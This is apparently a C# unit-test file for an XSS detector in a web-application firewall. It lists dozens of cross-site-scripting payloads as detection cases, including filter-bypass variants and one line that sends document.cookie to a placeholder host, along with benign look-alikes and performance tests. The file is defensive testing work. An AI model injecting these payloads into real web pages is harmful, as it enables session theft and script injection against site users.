using System.Text;
using WafOperator.Engine.Detectors;
using WafOperator.Fixtures;

namespace WafOperator.Engine.Tests.Detectors;

public sealed class XssDetectorTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>", "tag")]
    [InlineData("<ScRiPt/src=//x>", "tag")]
    [InlineData("text <script", "tag")]
    [InlineData("<iframe src=//x>", "tag")]
    [InlineData("<object data=x>", "tag")]
    [InlineData("<x:script>", "tag")]
    [InlineData("<svg/onload=alert(1)>", "tag")]
    [InlineData("<img src=x onerror=alert(1)>", "handler")]
    [InlineData("<img src=x onerror\n=\n'alert(1)'", "handler")]
    [InlineData("<p/onclick=1>", "handler")]
    [InlineData("<img src='x'onerror=x>", "handler")]
    [InlineData("<img src=x:x/onerror=alert(1)>", "handler")]
    [InlineData("<a href=javascript:alert(1)>", "link")]
    [InlineData("<a href=' java\tscript:alert(1)'>", "link")]
    [InlineData("<a href=&#106;avascript&colon;alert(1)>", "link")]
    [InlineData("<a href=data:text/html;base64,PHN>", "link")]
    [InlineData("<form action=vbscript:x>", "link")]
    [InlineData("<div style=width:expression(alert(1))>", "style")]
    [InlineData("<style>@import 'x'</style>", "style")]
    [InlineData("<button formaction=x>", "frame")]
    [InlineData("<?xml-stylesheet href=x?>", "declaration")]
    [InlineData("<!ENTITY x SYSTEM 'y'>", "declaration")]
    [InlineData("<!--[if IE]>", "declaration")]
    [InlineData("\" onmouseover=\"alert(1)", "attribute")]
    [InlineData("' autofocus onfocus=alert(1) x='", "attribute")]
    [InlineData("x onerror=alert(1)", "attribute")]
    [InlineData("` onerror=alert`1`", "attribute")]
    [InlineData("\" href=\"javascript:alert(1)", "link")]
    [InlineData("javascript:alert(1)", "url")]
    [InlineData(" \u0001JaVaScRiPt:alert`1`", "url")]
    [InlineData("data:text/html,<b>", "url")]
    [InlineData("[x](javascript:alert(1))", "link")]
    [InlineData("';alert(1)//", "script")]
    [InlineData("\"-alert(1)-\"", "script")]
    [InlineData("'+fetch('//x/'+document.cookie)+'", "script")]
    [InlineData(");alert(1)//", "script")]
    [InlineData("*/alert(1)/*", "script")]
    [InlineData("alert(document.domain)", "script")]
    [InlineData("${alert(1)}", "template")]
    [InlineData("{{constructor.constructor('alert(1)')()}}", "template")]
    [InlineData("<img title=\"--><img src=x onerror=alert(1)>\">", "handler")]
    [InlineData("</br onclick=alert(1)>", "handler")]
    public void Detect_Attack_IsFound(string input, string fingerprint)
    {
        Assert.True(Find(input, out var print), input);
        Assert.Equal(fingerprint, print);
    }

    [Theory]
    [InlineData("")]
    [InlineData("hello")]
    [InlineData("a < b and c > d")]
    [InlineData("1 <2")]
    [InlineData("x <- y")]
    [InlineData("<b>bold</b> and <i class=\"x\">italic</i>")]
    [InlineData("<p style=\"color:red\">text</p>")]
    [InlineData("<a href=\"https://example.com/?a=b\">link</a>")]
    [InlineData("<img src=\"/a.png\" alt='x'>")]
    [InlineData("<!-- comment -->")]
    [InlineData("<!DOCTYPE html>")]
    [InlineData("I said \"based on = fact\"")]
    [InlineData("on time = good")]
    [InlineData("online=true")]
    [InlineData("one=1&only=2")]
    [InlineData("javascript: the good parts")]
    [InlineData("JavaScript")]
    [InlineData("data: 5")]
    [InlineData("it's an alert")]
    [InlineData("it's (really) good; isn't it?")]
    [InlineData("${name}")]
    [InlineData("{{ user.name }}")]
    [InlineData("f(x) = x^2")]
    [InlineData("https://example.com/path?x=1#y")]
    [InlineData("{\"onclick\":\"no\"}")]
    [InlineData("List<string> x = new();")]
    [InlineData("<3 you")]
    public void Detect_Ordinary_IsNotFound(string input) => Assert.False(Find(input, out var print), print);

    /// <summary>The text behind each style tag was searched to the end: a megabyte of them took minutes.</summary>
    [Theory]
    [InlineData("<style ")]
    [InlineData("<a ")]
    [InlineData("](")]
    [InlineData("<a b=\"")]
    [InlineData("'\"`${s")]
    public void Detect_LongRun_TakesTimeLinearInItsLength(string text)
    {
        var steps = 500_000_000L;
        var clock = System.Diagnostics.Stopwatch.StartNew();
        var input = Encoding.Latin1.GetBytes(string.Concat(Enumerable.Repeat(text, 1_000_000 / text.Length)));
        XssDetector.Detect(input, default, ref steps, out _);
        Assert.True(steps >= 0, "steps grow faster than the input");
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5), $"{clock.Elapsed}");
    }

    [Fact]
    public void Detect_StepsUsedUp_FindsNothingAndSaysSo()
    {
        var input = Encoding.Latin1.GetBytes(string.Concat(Enumerable.Repeat("<a b=c>", 2000)) + "<script>");
        var (few, enough) = (1_000L, 10_000_000L);
        Assert.False(XssDetector.Detect(input, default, ref few, out _));
        Assert.True(few < 0);
        Assert.True(XssDetector.Detect(input, default, ref enough, out _));
        Assert.True(enough > 0);
    }

    [Fact]
    public void Detect_AnyInput_AllocatesNothing()
    {
        var inputs = new[] { "hello <b>world</b> = x", "<img src=x onerror=y>", "it's \"a\" = {b} [c](d)" };
        var bytes = inputs.Select(Encoding.UTF8.GetBytes).ToArray();
        var print = new byte[XssDetector.FingerprintBytesMax];
        for (var i = 0; i < 50; i++) Run();

        Assert.Equal(0, Allocations.LeastOf(() =>
        {
            for (var i = 0; i < 100; i++) Run();
        }));

        void Run()
        {
            for (var i = 0; i < bytes.Length; i++) XssDetector.Detect(bytes[i], print, out _);
        }
    }

    private static bool Find(string input, out string print)
    {
        Span<byte> fingerprint = stackalloc byte[XssDetector.FingerprintBytesMax];
        var isFound = XssDetector.Detect(Encoding.Latin1.GetBytes(input), fingerprint, out var length);
        print = Encoding.ASCII.GetString(fingerprint[..length]);
        return isFound;
    }
}
